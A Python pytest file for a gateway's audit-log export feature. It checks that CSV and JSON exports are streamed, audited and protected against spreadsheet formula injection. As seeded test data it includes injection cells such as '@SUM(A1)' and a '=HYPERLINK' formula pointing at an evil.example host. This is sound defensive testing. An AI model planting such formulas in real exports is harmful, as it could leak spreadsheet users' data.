"""Exports of a filtered view: CSV and JSON, streamed, formula-safe, and audited themselves."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import literal, select

from gateway.audit_search import COLUMNS
from gateway.audit_verify import verify_database
from gateway.db.engine import make_engine, session_factory
from gateway.db.models import AuditEntry
from gateway.exports import _safe, chunks, neutralise
from gateway.instance import Instance
from tests.test_leads_search import Data, app, data, expect, logged_in  # noqa: F401  (fixtures)


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("into STADIUM", "into STADIUM"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


def test_the_database_neutralises_exactly_like_the_rule(instance: Instance) -> None:
    """The CSV export's SELECT does the neutralising (fast); it must agree with `neutralise` on both databases."""
    cells = ["=1+1", "+33", "-2", "@x", "\tx", "\rx", "ok", "a=b", "", "'=already", "é=", "=é", "€=", "-"]
    engine = make_engine(instance.settings.database_url)
    with engine.connect() as conn:
        got = [conn.execute(select(_safe(literal(c), engine.dialect.name))).scalar() for c in cells]
    engine.dispose()
    assert got == [neutralise(c) for c in cells]


def test_chunks_are_one_per_batch_and_json_stays_valid() -> None:
    row = (1, "2026-07-26T08:00:00.000Z", "decision", "n1", "G", "G-IN", "b", "h", "Martin", None, "", "allow",
           "granted", "online", "'=x")  # fmt: skip
    csv_parts = list(chunks("csv", [[row], [], [row]]))
    assert len(csv_parts) == 4  # header, then one per batch
    parsed = list(csv.reader(io.StringIO("".join(csv_parts))))
    assert parsed[0] == list(COLUMNS) and parsed[1] == parsed[2] and parsed[1][9] == "" and parsed[1][-1] == "'=x"
    jrow = (*row[:11], True, *row[12:])
    assert json.loads("".join(chunks("json", [[jrow], [], [jrow]]))) == [dict(zip(COLUMNS, jrow, strict=True))] * 2
    assert json.loads("".join(chunks("json", []))) == []
    with pytest.raises(ValueError):
        chunks("xlsx", [])


def _exports(instance: Instance) -> list[AuditEntry]:
    with session_factory(make_engine(instance.settings.database_url))() as s:
        return list(s.scalars(select(AuditEntry).where(AuditEntry.kind == "export").order_by(AuditEntry.seq)))


def test_csv_export_of_a_filtered_view_is_streamed_safe_and_audited(
    app: Flask,  # noqa: F811
    instance: Instance,
    data: Data,  # noqa: F811
) -> None:
    lead = logged_in(app, "lead1")
    response = lead.post("/leads/search/export.csv?organisation=GN-75&kind=decision")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(rows[0]) == COLUMNS
    assert [int(r["seq"]) for r in rows] == expect(data, lambda d: d.organisation == "GN-75")
    details = {r["detail"] for r in rows}
    # Seed details 3 (=HYPERLINK), 6 (-2+3), 9 (tab) are Martin's or Silva's, both GN-75.
    assert {'\'=HYPERLINK("http://evil.example/?x")', "'-2+3", "'\tTAB"} <= details
    assert not any(d[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for d in r.values() if d)
    assert {r["family_name"] for r in rows} == {"Martin", "Silva"}

    (entry,) = _exports(instance)
    assert entry.operator == "lead1" and str(entry.seq) == response.headers["X-Audit-Seq"]
    assert json.loads(entry.detail) == {"format": "csv", "filter": {"organisation": "GN-75", "kind": "decision"}}
    with session_factory(make_engine(instance.settings.database_url))() as s:
        assert verify_database(s, [], {}).ok  # the export's entry joined the chain properly


def test_json_export_holds_the_same_rows_as_the_search(app: Flask, instance: Instance, data: Data) -> None:  # noqa: F811
    lead = logged_in(app, "lead1")
    body: list[dict[str, Any]] = lead.post("/leads/search/export.json?decision=deny").get_json()
    assert [r["seq"] for r in body] == expect(data, lambda d: not d.allow)
    assert all(r["allow"] is False and r["kind"] == "decision" for r in body)
    assert body[0]["detail"] in ("into", '=HYPERLINK("http://evil.example/?x")')  # JSON keeps data as it is
    everything = lead.post("/leads/search/export.json?kind=any").get_json()
    assert {r["kind"] for r in everything} >= {"decision", "gate_event", "export"}  # the first export is in it
    assert [json.loads(e.detail)["format"] for e in _exports(instance)] == ["json", "json"]
    assert lead.post("/leads/search/export.xlsx").status_code == 404
    assert lead.post("/leads/search/export.csv?mode=carrier-pigeon").status_code == 400
    assert len(_exports(instance)) == 2  # refused exports are not audited as exports


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_trail_export_link_carries_the_holder_filter(app: Flask, data: Data) -> None:  # noqa: F811
    lead = logged_in(app, "lead1")
    martin = data.holders["Martin"]
    html = lead.get(f"/leads/trail/{martin}").get_data(as_text=True)
    form = re.search(r'<form method="post" action="([^"]+export\.csv[^"]*)"', html)
    assert form is not None
    rows = list(csv.DictReader(io.StringIO(lead.post(form.group(1).replace("&amp;", "&")).get_data(as_text=True))))
    assert {r["holder_id"] for r in rows} == {martin} and {r["kind"] for r in rows} >= {"decision", "gate_event"}


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_overrides_at_the_gate_export_on_their_own(app: Flask, instance: Instance, data: Data) -> None:  # noqa: F811
    """A guard's forced grant (as gateway/manual_decisions.py writes it) is found and exported by mode."""
    import datetime as dt

    from gateway import audit

    now = dt.datetime.now(dt.UTC)
    with session_factory(make_engine(instance.settings.database_url))() as s, s.begin():
        forced = audit.append(
            s,
            audit.Entry(
                kind="decision",
                ref="f" * 32,
                at=now,
                recorded_at=now,
                reader="STA-G1-IN",
                gate="STA-G1",
                holder_id=data.holders["Martin"],
                operator="guard:G1",
                allow=True,
                reason="forced_grant",
                mode="forced",
                detail="medical emergency: casualty in the stand",
            ),
        )
    rows = list(
        csv.DictReader(
            io.StringIO(logged_in(app, "lead1").post("/leads/search/export.csv?mode=forced").get_data(as_text=True))
        )
    )
    assert [(int(r["seq"]), r["mode"], r["operator"], r["reason"]) for r in rows] == [
        (forced.seq, "forced", "guard:G1", "forced_grant")
    ]


@settings(max_examples=200)
@given(
    st.lists(
        st.tuples(
            st.integers(min_value=1, max_value=10**9),
            st.lists(
                st.one_of(st.text(max_size=12), st.sampled_from(["", ",", '"', "\r\n", "a,b"]), st.none()),
                min_size=len(COLUMNS) - 1,
                max_size=len(COLUMNS) - 1,
            ),
        ).map(lambda t: (t[0], *t[1])),
        max_size=20,
    )
)
def test_csv_lines_are_exactly_what_the_csv_module_writes(rows: list[tuple[object, ...]]) -> None:
    # Rows without a comma, quote or line break are joined directly (fast); the result must not differ at all.
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerows([COLUMNS, *rows])
    assert "".join(chunks("csv", [rows])) == expected.getvalue()
